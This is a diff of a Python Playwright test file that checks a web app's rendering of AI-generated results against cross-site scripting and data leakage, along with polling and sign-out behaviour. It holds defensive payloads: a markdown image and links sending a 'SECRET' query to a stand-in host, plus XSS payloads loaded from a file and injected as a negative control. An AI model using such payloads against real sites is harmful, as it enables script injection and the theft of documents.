@@ -1,6 +1,6 @@
 """Back, reload and sign-out as a real browser does them, and a hostile result where it would run if it could.
 
-One site and one window for all of it, without a worker: the jobs are put into their states by hand.
+One site for all of it, without a worker: the jobs are put into their states by hand.
 """
 
 from __future__ import annotations
@@ -14,27 +14,25 @@ from playwright.sync_api import Browser, BrowserContext, Page, expect
 
 from tasks.database import Database
 from tasks.ledger import transitions
-from tests.browser.conftest import PASSWORD
-from tests.support import house
+from tests.browser.conftest import Complaints
+from tests.support import house, seeing
 from tests.support.documents import FILES
 from tests.support.processes import answers, process
-from webapp import passwords
 from webapp.embedded import free_port
-from webapp.models import Account, Role
+from webapp.models import Role
 
 pytestmark = [pytest.mark.browser, pytest.mark.timeout(120)]
 
-EMAIL, WORDS = "ada@example.org", "The harbour committee met. The north pier is closed."
+WORDS = "The harbour committee met. The north pier is closed."
 RUNS = (FILES / "W07_xss_payloads.md").read_text()
 LEAKS = "Closed. ![chart](http://127.0.0.1:9/c.png?q=SECRET) [go](http://127.0.0.1:9/x) <http://127.0.0.1:9/y>"
 
 
 @dataclass
-class Window:
-    """A browser in which an operator, who is a person too, is signed in."""
+class Front:
+    """A site, and an operator, who is a person too."""
 
     address: str
-    context: BrowserContext
     database: Database
     account_id: uuid.UUID
 
@@ -49,33 +47,32 @@ class Window:
         return job_id
 
 
+@dataclass
+class Window(Front):
+    """A browser in which that person is signed in."""
+
+    context: BrowserContext
+
+
 @pytest.fixture(scope="module")
-def window(chromium: Browser, addresses: dict[str, str]) -> Iterator[Window]:
+def front(addresses: dict[str, str]) -> Iterator[Front]:
     port = free_port()
     address = f"http://127.0.0.1:{port}"
     with Database(house.settings(addresses), "waybill-test") as database:
         with database.transaction() as session:
             house.empty(session)
-            account = Account(email=EMAIL, password_hash=passwords.hash_password(PASSWORD), role=Role.OPERATOR)
-            session.add(account)
+            account_id = house.make_account(session, role=Role.OPERATOR)
         variables = house.environment(addresses, HOST="127.0.0.1", PORT=str(port))
         with process(["-m", "gunicorn", "wsgi:app"], variables) as web:
             house.wait_until(lambda: answers(f"{address}/healthz"), within=60, what=lambda: web.log)
-            context = chromium.new_context(base_url=address)
-            context.set_default_timeout(15_000)
-            page = context.new_page()
-            sign_in(page)
-            page.close()
-            yield Window(address, context, database, account.id)
-            context.close()
+            yield Front(address, database, account_id)
 
 
-def sign_in(page: Page) -> None:
-    page.goto("/login")
-    page.get_by_label("E-mail").fill(EMAIL)
-    page.get_by_label("Password").fill(PASSWORD)
-    page.get_by_role("button", name="Sign in").click()
-    page.wait_for_url("**/")
+@pytest.fixture
+def window(chromium: Browser, front: Front) -> Window:
+    context = chromium.new_context(base_url=front.address)
+    seeing.sign_in(context, front.address, front.account_id)
+    return Window(front.address, front.database, front.account_id, context)
 
 
 def hand_in(page: Page) -> str:
@@ -120,11 +117,12 @@ def hostile_jobs(window: Window) -> list[str]:
     return ["/", *own, *(f"/ops/jobs/{job_id}" for job_id in (ran, leaked)), "/ops"]
 
 
-def test_a_hostile_result_runs_nothing_and_asks_no_other_host(window: Window) -> None:
+def test_a_hostile_result_runs_nothing_and_asks_no_other_host(window: Window, complaints: Complaints) -> None:
     """AI text ran as script on the site's own origin; a picture in it carried the document to another host."""
     page, asked, said = window.context.new_page(), [], []
     page.on("request", lambda request: asked.append(request.url))
     page.on("dialog", lambda dialog: (said.append(dialog.message), dialog.dismiss()))
+    complaints.expect("favicon.ico")  # a fragment by itself names no icon
     hostile = hostile_jobs(window)
     for path in hostile:
         answer = page.goto(path)
@@ -137,6 +135,8 @@ def test_a_hostile_result_runs_nothing_and_asks_no_other_host(window: Window) ->
     assert page.evaluate("document.cookie") == ""
     assert said == [] and all(url.startswith(f"{window.address}/") for url in asked)
 
+    assert complaints.unexpected == []
+    complaints.expect("")
     page.goto("about:blank")  # the negative control: in a page that does not guard itself, all of this happens
     page.set_content(f"{RUNS} <img src='http://127.0.0.1:9/c.png?q=SECRET'>")
     house.wait_until(lambda: page.evaluate("window.__xss"))
@@ -144,13 +144,14 @@ def test_a_hostile_result_runs_nothing_and_asks_no_other_host(window: Window) ->
     page.close()
 
 
-def test_polling_outlives_an_outage_and_ends_with_the_job(window: Window) -> None:
+def test_polling_outlives_an_outage_and_ends_with_the_job(window: Window, complaints: Complaints) -> None:
     """Pollers gave up for good when the server was away for a moment, or went on for ever after the end."""
     with window.database.transaction() as session:
         job_id = house.submit(session, window.account_id, b"A text that waits.").job_id
     page, polls = window.context.new_page(), []
     page.goto(f"/jobs/{job_id}")
     page.on("request", lambda request: polls.append(request.url) if "/status" in request.url else None)
+    complaints.expect("ERR_INTERNET_DISCONNECTED", "Failed to fetch")
     window.context.set_offline(True)
     expect(page.get_by_text("The connection is interrupted. Still trying.")).to_be_visible()
     expect(page.locator("#job-status")).to_have_attribute("data-state", "queued")
@@ -166,7 +167,7 @@ def test_polling_outlives_an_outage_and_ends_with_the_job(window: Window) -> Non
 
 
 def test_after_signing_out_back_leads_to_the_sign_in_page(window: Window) -> None:
-    """The last one here. The result was readable by Back, after its reader had signed out."""
+    """The result was readable by Back, after its reader had signed out."""
     page = window.context.new_page()
     result = f"/jobs/{window.succeeded('The secret pier is closed.')}"
     page.goto(result)
